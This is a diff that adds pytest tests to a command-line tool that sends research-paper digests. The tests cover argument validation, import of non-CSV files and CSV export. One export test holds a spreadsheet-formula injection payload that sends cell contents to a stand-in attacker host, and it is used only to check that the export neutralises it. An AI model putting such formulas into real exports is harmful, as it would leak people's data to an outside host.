@@ -143,3 +143,145 @@ def test_a_broken_source_is_reported_and_the_good_ones_still_go_in(cli, tmp_path
     assert "broken.xml" in result.output
     assert "25 shown" not in result.output
     assert "25" in cli("papers", "list", "--limit", "100").output.splitlines()[-1]
+
+
+# --- bad arguments: one clear line, a non-zero exit, nothing written ------------------------
+
+
+def wrote_nothing(tmp_path: Path) -> bool:
+    return not (tmp_path / "data").exists()
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1969-12-31", "2026-02-30", "x"])
+@pytest.mark.parametrize(
+    "command",
+    [("run",), ("run", "--dry-run"), ("status",), ("preview", "ada@example.org"),
+     ("recommend", "--topics", "LoRA"), ("in-doubt", "list"), ("in-doubt", "resend", "--all")],
+    ids=" ".join,
+)
+def test_a_date_out_of_range_is_refused_before_anything_runs(
+    cli, tmp_path: Path, command: tuple[str, ...], day: str
+) -> None:
+    result = cli(*command, "--date", day)
+    assert result.exit_code == 2
+    assert "Invalid value for '--date'" in result.output
+    assert "out of range" in result.output or "not a date" in result.output
+    assert wrote_nothing(tmp_path)
+
+
+def test_the_first_and_last_dates_in_range_run(cli) -> None:
+    from datetime import date, timedelta
+
+    from digest.cli import DAYS_AHEAD, FIRST_DAY
+
+    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA")
+    last = date.today() + timedelta(days=DAYS_AHEAD - 1)  # the UTC date may be a day behind
+    for day in (FIRST_DAY.isoformat(), last.isoformat()):
+        for command in (("run", "--dry-run"), ("status",), ("preview", "ada@example.org"),
+                        ("recommend", "--topics", "LoRA")):
+            result = cli(*command, "--date", day)
+            assert result.exit_code == 0, (command, day, result.output)
+
+
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (("subscribers", "add", "a@example.org", "--topics", " , , "), "at least one topic"),
+        (("subscribers", "add", "a@example.org", "--topics", "--"), "at least one topic"),
+        (("subscribers", "add", "a@example.org", "--topics", "LoRA", "--papers", "0"),
+         "Papers per digest"),
+        (("subscribers", "add", "a@example.org", "--topics", "LoRA", "--hour", "9" * 30),
+         "Send hour"),
+        (("subscribers", "set-topics", "ghost@example.org", " ; "), "No subscriber"),
+        (("recommend", "--topics", " , , "), "at least one topic"),
+        (("suppressions", "add", "not an address"), "not a valid email address"),
+        (("papers", "list", "--limit", "-1"), "Invalid value for '--limit'"),
+        (("papers", "list", "--limit", "9" * 30), "Invalid value for '--limit'"),
+        (("papers", "show", "9" * 30), "No paper"),
+        (("papers", "show", "²"), "No paper"),
+        (("serve", "--port", "99999999"), "Invalid value for '--port'"),
+        (("bench", "--subscribers", "0", "--papers", "0"), "Invalid value for '--subscribers'"),
+        (("bench", "--batch-size", "-1"), "Invalid value for '--batch-size'"),
+        (("db", "upgrade", "--revision", "nonsense"), "Can't locate revision"),
+        (("dns-check", "--dmarc-reports", "not an address"), "not a valid email address"),
+        (("dns-check", "--include", "bad domain"), "not a domain name"),
+        (("eval", "--method", "nonsense"), "Invalid value for '--method'"),
+    ],
+    ids=lambda value: " ".join(value) if isinstance(value, tuple) else None,
+)
+def test_every_bad_argument_gets_a_clear_error_not_a_traceback(
+    cli, tmp_path: Path, args: tuple[str, ...], message: str
+) -> None:
+    result = cli(*args)
+    assert result.exit_code != 0
+    assert message in result.output
+    assert "Traceback" not in result.output
+    assert "0 subscriber(s)" in cli("subscribers", "list").output
+    assert "0 suppressed" in cli("suppressions", "list").output
+
+
+def test_dns_check_takes_real_domains_and_addresses(cli) -> None:
+    result = cli("dns-check", "--include", "_spf.google.com", "--include", "sendgrid.net",
+                 "--dmarc-reports", "dmarc@example.org")
+    assert result.exit_code == 0
+    assert "include:_spf.google.com include:sendgrid.net" in result.output
+    assert "rua=mailto:dmarc@example.org" in result.output
+
+
+def test_a_malformed_labelled_set_is_a_clear_error(cli, tmp_path: Path) -> None:
+    (tmp_path / "set").mkdir()
+    (tmp_path / "set" / "profiles.json").write_text("{not json")
+    (tmp_path / "set" / "judgments.jsonl").write_text("")
+    result = cli("eval", "--eval-dir", str(tmp_path / "set"))
+    assert result.exit_code == 1 and "malformed" in result.output
+
+
+GOOD_CSV = b"email,topics\nada@example.org,LoRA\ngrace@example.org,RLHF\n"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        bytes(range(256)) * 8,
+        __import__("gzip").compress(GOOD_CSV),
+        GOOD_CSV.decode().encode("utf-16"),
+        GOOD_CSV + b"alan@example.org,\x8b\x00\x1f binary\n",
+    ],
+    ids=["binary", "gzip", "utf-16", "text-then-binary"],
+)
+def test_import_of_a_file_that_is_not_csv_text_writes_nothing(
+    cli, tmp_path: Path, data: bytes
+) -> None:
+    source = tmp_path / "people.csv"
+    source.write_bytes(data)
+    result = cli("subscribers", "import", str(source))
+    assert result.exit_code == 1
+    assert "not UTF-8 text" in result.output
+    assert len(result.output.strip().splitlines()) == 1
+    assert "0 subscriber(s)" in cli("subscribers", "list").output
+
+
+def test_export_neutralises_formulas_and_round_trips(cli, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?x="&A2, "More papers")'
+    assert cli("subscribers", "add", "ada@example.org", "--topics", hostile).exit_code == 0
+    cli("subscribers", "add", "grace@example.org", "--topics", "LoRA, RLHF", "--pending")
+    first = tmp_path / "first.csv"
+    assert cli("subscribers", "export", str(first)).exit_code == 0
+    assert '"\'=HYPERLINK(' in first.read_text() and '"=HYPERLINK(' not in first.read_text()
+    for email in ("ada@example.org", "grace@example.org"):
+        cli("subscribers", "remove", email, "--yes")
+    imported = cli("subscribers", "import", str(first))
+    assert imported.exit_code == 0, imported.output
+    second = tmp_path / "second.csv"
+    cli("subscribers", "export", str(second))
+    assert second.read_bytes() == first.read_bytes()
+    assert hostile in cli("subscribers", "show", "ada@example.org").output
+
+
+def test_a_preview_that_cannot_be_written_says_so(cli, tmp_path: Path) -> None:
+    cli("ingest", "--sample")
+    cli("subscribers", "add", "ada@example.org", "--topics", "LoRA, low-rank adaptation")
+    (tmp_path / "a-file").write_text("")
+    result = cli("preview", "ada@example.org", "--out", str(tmp_path / "a-file" / "previews"))
+    assert result.exit_code == 1
+    assert "Cannot write the preview" in result.output and "--out" in result.output
